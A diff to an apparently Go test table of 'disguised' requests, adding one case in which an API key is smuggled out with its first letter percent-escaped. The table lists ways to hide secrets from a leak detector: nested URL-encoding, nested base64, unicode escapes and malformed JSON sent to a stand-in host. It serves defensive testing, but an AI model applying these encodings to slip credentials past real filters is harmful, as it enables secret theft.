@@ -59,6 +59,7 @@ func disguises() []planted {
 		{"thrice", odd + "x", at("https://g/?n=" + url.QueryEscape(url.QueryEscape(url.QueryEscape("a&token="+odd+"x"))))},
 		{"b64 in b64", skKey, post(`{"d":"` + b64("xx "+b64("key is "+skKey+" ok")) + `"}`)},
 		{"b64 url-encoded", skKey, at("https://g/?n=" + url.QueryEscape(b64("key is "+skKey+" ok?>~~")))},
+		{"escaped for a URL from the first letter on", skKey, post("%73" + skKey[1:])},
 		{"unicode esc", skKey, post(`{"d":"` + strings.ReplaceAll(skKey, "-", "\\u002d") + `"}`)},
 		{"pretty", word, post("{\n  \"auth\": {\n    \"api-key\" :\n \"" + word + "\"\n  }\n}")},
 		{"truncated json", word, post(`{"a":1,"password":"` + word + `","b":"cut`)},
